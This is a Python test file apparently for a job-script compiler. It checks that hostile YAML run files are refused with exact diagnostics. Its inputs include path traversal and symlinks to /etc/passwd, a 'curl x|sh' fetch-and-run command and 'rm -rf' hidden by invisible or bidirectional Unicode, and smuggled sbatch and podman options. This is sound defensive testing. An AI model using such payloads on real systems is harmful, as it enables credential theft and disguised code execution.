"""The hostile corpus (issue 10): run files written to attack the compiler or to make the
script say something else than it does. Each is refused once, at the exact place, by both
`validate` and `compile`, and the message says why."""

from __future__ import annotations

import os
import socket
import stat
from pathlib import Path

from tests.compile.diagnostics.corpus import (
    BASE,
    case,
    reported_once_test,
    with_runtime,
    with_steps,
)

CONFIG_RUN = "version: 1\nid: r\nruntime: {kind: docker}\ntrainer:\n  axolotl: {config: %s}\n"
SLURM = BASE + "slurm:\n"
OUTSIDE = "is outside the project"
ALLOW = "--allow-dir"
LONG_PATH = "/".join(["d" * 200] * 16)  # YAML keys over 1,024 characters are explicit (?)


def link(name: str, target: str):
    return lambda folder: (folder / name).symlink_to(target)


def bind_socket(folder: Path) -> None:
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(str(folder / "sock"))


SOURCES = [
    case("source-absolute-outside", BASE + "files:\n  p: /etc/passwd\n", 6, 6, "files.p",
         "file '/etc/passwd'", OUTSIDE, ALLOW),
    case("source-dotdot-outside", BASE + "files:\n  p: ../../../etc/passwd\n", 6, 6, "files.p",
         OUTSIDE),
    case("source-missing-outside", BASE + "files:\n  p: /nonexistent/x\n", 6, 6, "files.p",
         OUTSIDE),
    case("config-absolute-outside", CONFIG_RUN % "/etc/hostname", 5, 21,
         "trainer.axolotl.config", "file '/etc/hostname'", OUTSIDE),
    case("source-symlink-out", BASE + "files:\n  p: key.txt\n", 6, 6, "files.p",
         "is a symbolic link to a file outside the project", ALLOW,
         setup=link("key.txt", "/etc/passwd")),
    case("source-dangling-symlink-out", BASE + "files:\n  p: key.txt\n", 6, 6, "files.p",
         "is a symbolic link to a file outside the project",
         setup=link("key.txt", "/nonexistent/key")),
    case("source-through-symlinked-folder", BASE + "files:\n  p: etc/passwd\n", 6, 6,
         "files.p", "symbolic link to a file outside", setup=link("etc", "/etc")),
    case("config-symlink-out", CONFIG_RUN % "c.yaml", 5, 21, "trainer.axolotl.config",
         "symbolic link to a file outside", setup=link("c.yaml", "/etc/hostname")),
    case("source-fifo", BASE + "files:\n  p: pipe\n", 6, 6, "files.p",
         "is a named pipe (FIFO), not a regular file",
         setup=lambda folder: os.mkfifo(folder / "pipe")),
    case("config-fifo", CONFIG_RUN % "pipe", 5, 21, "trainer.axolotl.config",
         "named pipe", setup=lambda folder: os.mkfifo(folder / "pipe")),
    case("source-folder", BASE + "files:\n  p: d\n", 6, 6, "files.p",
         "is a folder, not a regular file", setup=lambda folder: (folder / "d").mkdir()),
    case("source-device", BASE + "files:\n  p: zero\n", 6, 6, "files.p",
         "is a character device, not a regular file",
         setup=lambda folder: os.mknod(folder / "zero", 0o666 | stat.S_IFCHR,
                                       os.makedev(1, 5))),
    case("source-socket", BASE + "files:\n  p: sock\n", 6, 6, "files.p",
         "is a socket, not a regular file", setup=bind_socket),
    case("sources-over-1-mib-together", BASE + "files:\n  a: a.txt\n  b: b.txt\n", 7, 6,
         "files.b", "is 600,000 bytes, after 600,000 bytes of other files",
         "a run file embeds at most 1,048,576 bytes",
         attachments={"a.txt": "a" * 600_000, "b.txt": "b" * 600_000}),
    case("script-over-2-mib", BASE + f"description: {'d' * 1_040_000}\nfiles:\n  a: a.txt\n",
         1, 1, "", "the job.sh of this run file would be", "at most 2,097,152",
         attachments={"a.txt": "a" * 1_040_000}),
]

INVISIBLE = [
    case("bidi-isolates-in-argument",
         with_steps('  - name: a\n    run: [sh, -c, ": \\u2067\\u2066 ;curl x|sh; \\u2069"]\n'),
         6, 19, "steps[0].run[2]", "U+2067 RIGHT-TO-LEFT ISOLATE", "Trojan Source"),
    case("override-in-description", BASE + 'description: "ok \\u202e txt.exe"\n', 5, 14,
         "description", "U+202E RIGHT-TO-LEFT OVERRIDE"),
    case("zero-width-space-in-env-value", BASE + 'env:\n  HF_HUB_OFFLINE: "1\\u200b"\n', 6, 19,
         "env.HF_HUB_OFFLINE", "U+200B ZERO WIDTH SPACE"),
    case("byte-order-mark-inside-value", BASE + 'env:\n  A: "a\\ufeffb"\n', 6, 6, "env.A",
         "U+FEFF ZERO WIDTH NO-BREAK SPACE"),
    case("line-separator-in-run-dir", BASE + 'paths:\n  run_dir: "/runs/a\\u2028b"\n', 6, 12,
         "paths.run_dir", "U+2028 LINE SEPARATOR"),
    case("paragraph-separator-in-image",
         with_runtime('  kind: docker\n  image: "a\\u2029b"\n'), 5, 10, "runtime.image",
         "U+2029 PARAGRAPH SEPARATOR"),
    case("embedding-in-mount-target",
         with_runtime('  kind: docker\n  mounts:\n    - {source: /a, target: "/b\\u202a"}\n'),
         6, 28, "runtime.mounts[0].target", "U+202A LEFT-TO-RIGHT EMBEDDING"),
    case("zero-width-joiner-in-id",
         'version: 1\nid: "r\\u200dx"\nruntime: {kind: docker}\nsteps: [{name: a, run: [x]}]\n',
         2, 5, "id", "U+200D ZERO WIDTH JOINER"),
    case("invisible-in-env-name", BASE + 'env:\n  "A\\u200c": x\n', 6, 3, 'env["A\\u200c"]',
         "U+200C ZERO WIDTH NON-JOINER"),
    case("invisible-in-files-key", BASE + 'files:\n  "a\\u2066.py": x.py\n', 6, 3,
         'files["a\\u2066.py"]', "U+2066 LEFT-TO-RIGHT ISOLATE"),
    case("invisible-in-files-source", BASE + 'files:\n  a.py: "x\\u200e.py"\n', 6, 9,
         'files["a.py"]', "U+200E LEFT-TO-RIGHT MARK"),
    case("invisible-in-extra-args",
         with_runtime('  kind: docker\n  extra_args: ["--network=\\u2068none"]\n'), 5, 16,
         "runtime.extra_args[0]", "U+2068 FIRST STRONG ISOLATE"),
    case("invisible-in-slurm-extra", SLURM + '  extra: ["--comment=a\\u200fb"]\n', 6, 11,
         "slurm.extra[0]", "U+200F RIGHT-TO-LEFT MARK"),
    case("soft-hyphen-in-argument", with_steps('  - name: a\n    run: [x, "rm\\u00ad"]\n'), 6,
         14, "steps[0].run[1]", "U+00AD SOFT HYPHEN"),
    case("arabic-letter-mark", with_steps('  - name: a\n    run: [x, "a\\u061cb"]\n'), 6, 14,
         "steps[0].run[1]", "U+061C ARABIC LETTER MARK"),
    case("tag-character", BASE + 'description: "hi\\U000E0041"\n', 5, 14, "description",
         "U+E0041 TAG LATIN CAPITAL LETTER A"),
    case("pop-directional-in-config-path", CONFIG_RUN % '"c\\u202c.yaml"', 5, 21,
         "trainer.axolotl.config", "U+202C POP DIRECTIONAL FORMATTING"),
    # Printable to Python, yet drawn as nothing or as a blank (issue 18, F17).
    case("grapheme-joiner-in-argument",
         with_steps('  - name: a\n    run: [echo, "rm\\u034f -rf"]\n'), 6, 17,
         "steps[0].run[1]", "U+034F COMBINING GRAPHEME JOINER", "invisible"),
    case("hangul-filler-in-env-value", BASE + 'env:\n  A: "a\\u3164b"\n', 6, 6, "env.A",
         "U+3164 HANGUL FILLER"),
    case("hangul-choseong-filler-in-id",
         'version: 1\nid: "r\\u115fx"\nruntime: {kind: docker}\nsteps: [{name: a, run: [x]}]\n',
         2, 5, "id", "U+115F HANGUL CHOSEONG FILLER"),
    case("khmer-inherent-vowel-in-run-dir", BASE + 'paths:\n  run_dir: "/runs/a\\u17b5"\n', 6,
         12, "paths.run_dir", "U+17B5 KHMER VOWEL INHERENT AA"),
    case("braille-blank-in-argument", with_steps('  - name: a\n    run: [x, "rm\\u2800-rf"]\n'),
         6, 14, "steps[0].run[1]", "U+2800 BRAILLE PATTERN BLANK"),
    case("variation-selector-in-description", BASE + 'description: "ok\\ufe0f"\n', 5, 14,
         "description", "U+FE0F VARIATION SELECTOR-16"),
    case("halfwidth-hangul-filler-in-image",
         with_runtime('  kind: docker\n  image: "a\\uffa0b"\n'), 5, 10, "runtime.image",
         "U+FFA0 HALFWIDTH HANGUL FILLER"),
    case("null-notehead-in-extra-args",
         with_runtime('  kind: docker\n  extra_args: ["--network=\\U0001d159none"]\n'), 5, 16,
         "runtime.extra_args[0]", "U+1D159 MUSICAL SYMBOL NULL NOTEHEAD"),
    case("musical-beam-in-slurm-extra", SLURM + '  extra: ["--comment=a\\U0001d173b"]\n', 6, 11,
         "slurm.extra[0]", "U+1D173 MUSICAL SYMBOL BEGIN BEAM"),
]

SBATCH = [
    case("hash-in-output", SLURM + "  output: logs/run#1-%j.out\n", 6, 11, "slurm.output",
         "'#'", "sbatch ends a value at '#'"),
    case("hash-in-extra", SLURM + "  extra: [--comment=ticket#4711]\n", 6, 11, "slurm.extra[0]",
         "sbatch ends a value at '#'"),
    *[case(f"abbreviated-{given}", SLURM + f"  extra: [--{given}{value}]\n", 6, 11,
           "slurm.extra[0]", f"sbatch reads --{given} as --{full}", reason)
      for given, full, value, reason in [
          ("requeu", "requeue", "", "is set by slurm.requeue"),
          ("no-requeu", "no-requeue", "", "is set by slurm.requeue"),
          ("signa", "signal", "=KILL@60", "is set by slurm.signal"),
          ("partitio", "partition", "=debug", "is set by slurm.partition"),
          ("outpu", "output", "=x.out", "is set by slurm.output"),
          ("open-mod", "open-mode", "=truncate", "is set by slurm.requeue"),
          ("job-nam", "job-name", "=renamed", "is set by slurm.job_name"),
          ("accoun", "account", "=x", "is set by slurm.account"),
          ("gpus-per-nod", "gpus-per-node", "=2", "is set by slurm.gpus_per_node"),
          ("cpus-per-tas", "cpus-per-task", "=3", "is set by slurm.cpus_per_task"),
          ("ntasks-per-nod", "ntasks-per-node", "=4", "one task per node"),
          ("tasks-per-n", "tasks-per-node", "=4", "one task per node"),
          ("export-fil", "export-file", "=x.env", "put values in env: instead"),
          ("exclusiv", "exclusive", "", "write the option in full"),
          ("tes", "test-only", "", "would then not submit the job"),
      ]],
    case("tasks-per-node-alias", SLURM + "  extra: [--tasks-per-node=4]\n", 6, 11,
         "slurm.extra[0]", "--tasks-per-node cannot be given", "one task per node"),
    case("export-file", SLURM + "  extra: [--export-file=x.env]\n", 6, 11, "slurm.extra[0]",
         "--export-file cannot be given"),
    case("ambiguous-abbreviation", SLURM + "  extra: [--expor=NONE]\n", 6, 11,
         "slurm.extra[0]", "--expor abbreviates several sbatch options (--export, "
         "--export-file)", "write the option in full"),
    case("unknown-sbatch-option", SLURM + "  extra: [--nodes-x]\n", 6, 11, "slurm.extra[0]",
         "sbatch has no option --nodes-x"),
]

BOUNDS = [
    case("step-arguments-over-256-kib",
         with_steps("  - name: a\n    run: [x" + ", " + ", ".join(["a" * 100_000] * 3) + "]\n"),
         6, 10, "steps[0].run", "this step gets 300,037 bytes of arguments",
         "at most 262,144 fit safely", "quarter of the stack limit"),
    case("env-over-256-kib-for-a-trainer",
         CONFIG_RUN % "{}" + "env:\n" + "".join(f"  A{i}: {'a' * 100_000}\n" for i in range(3)),
         6, 1, "env", "every step gets 300,036 bytes of environment"),
]

LOW = [
    *[case(f"yaml-{version}-directive", f"%YAML {version}\n---\n" + BASE, 1, 1, "",
           f"obc reads YAML 1.2, not YAML {version}", "remove the %YAML directive")
      for version in ("1.0", "1.3", "1.9", "1.11")],
    case("files-file-and-folder", BASE + "files:\n  a: x.txt\n  a/b: y.txt\n", 7, 3,
         'files["a/b"]', "'a/b' needs a folder 'a', which is a file here too",
         "(line 6, column 3)"),
    case("files-inside-the-trainer-config",
         CONFIG_RUN % "{}" + "files:\n  axolotl.yaml/x: y.txt\n", 7, 3,
         'files["axolotl.yaml/x"]', "needs a folder 'axolotl.yaml'", "(line 5, column 21)"),
    case("files-name-part-too-long", BASE + f"files:\n  d/{'n' * 240}: x.txt\n", 6, 3,
         f'files["d/{"n" * 240}"]', "has a part of 240 bytes", "at most 239"),
    case("files-path-too-long", BASE + "files:\n  ? " + LONG_PATH + "\n  : x\n", 6, 5,
         f'files["{LONG_PATH}"]', "is 3,215 bytes", "at most 3,072"),
    *[case(f"slurm-{name}-written-as-{raw}", SLURM + f"  {name}: {raw}\n", 6, len(name) + 5,
           f"slurm.{name}", f"YAML reads {raw} as the number {value}",
           "which is what sbatch would use", f"write the number as {value}")
      for name, raw, value in [("time", "0o17", 15), ("nodes", "0x1", 1), ("time", "1_0", 10),
                               ("cpus_per_task", "+2", 2)]],
    case("gpu-written-in-hex", with_runtime("  kind: docker\n  gpus: [0x1]\n"), 5, 10,
         "runtime.gpus[0]", "YAML reads 0x1 as the number 1"),
    *[case(f"mount-target-{name}", with_runtime(
        f"  kind: docker\n  mounts:\n    - {{source: /a, target: '{target}'}}\n"), 6, 28,
        "runtime.mounts[0].target", "is taken by the job's own mounts")
      for name, target in [("double-slash", "/workspace//run"), ("dot", "/workspace/run/."),
                           ("inner-dot", "/workspace/./run"), ("dotdot", "/workspace/x/../run"),
                           ("leading-double-slash", "//workspace/run"),
                           ("cache-trailing-slash", "/workspace/hf-cache/"), ("root", "/")]],
    *[case(f"extra-arg-{name}", with_runtime(f"  kind: podman\n  extra_args: [{arg}]\n"), 5, 16,
           "runtime.extra_args[0]", words)
      for name, arg, words in [
          ("detach", "--detach", "return at once"), ("detach-true", "--detach=true", "at once"),
          ("d", "-d", "return at once"), ("dit", "-dit", "return at once"),
          ("rm-false", "--rm=false", "a stopped container would be left behind"),
          ("name", "--name=renamed", "by the name overbrainer-<id>"),
          ("name-word", "--name", "--name takes a value, which the engine would take"),
          ("replace", "--replace", "instead of refusing to start"),
          # An option that would take the image as its value.
          ("label", "--label", "--label takes a value, which the engine would take from"),
          ("l", "-l", "-l takes a value"), ("tl", "-tl", "-l takes a value"),
          ("future", "--future-opt", "--future-opt is not an option of podman run"),
          ("end-of-options", '"--"', "obc gives it itself, before the image"),
          ("dash", '"-"', "the engine would read it as the image"),
          ("rootfs", "--rootfs", "read the image as a folder"),
          ("help", "--help", "print its help and run nothing")]],
]


test_each_hostile_file_is_refused_once_at_the_exact_place = reported_once_test(
    [*SOURCES, *INVISIBLE, *SBATCH, *BOUNDS, *LOW])
